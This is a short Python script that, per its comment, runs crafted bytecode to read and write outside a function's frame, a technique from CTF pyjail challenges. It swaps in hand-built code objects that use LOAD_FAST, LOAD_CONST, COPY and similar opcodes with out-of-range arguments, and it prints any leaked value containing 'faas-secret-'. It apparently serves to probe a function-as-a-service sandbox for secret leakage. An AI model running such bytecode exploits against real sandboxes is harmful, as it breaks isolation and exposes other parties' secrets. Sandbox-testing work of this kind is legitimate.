# Runs hand-made bytecode that reads and writes out of bounds of its frame.
# Known from: CTF pyjails ("LOAD_FAST out of bounds", opcode jails).
import opcode


def base():
    pass


for name in ("LOAD_FAST", "STORE_FAST", "LOAD_CONST", "LOAD_DEREF", "COPY", "SWAP"):
    number = opcode.opmap[name]
    for argument in (1, 50, 200, 255):
        code = bytes([128, 0, number, argument, opcode.opmap["RETURN_VALUE"], 0])
        try:
            base.__code__ = base.__code__.replace(co_code=code, co_stacksize=50)
            value = base()
            print(name, argument, type(value))
            if "faas-" + "secret-" in repr(value):
                print(repr(value))
        except BaseException as error:
            print(type(error).__name__)
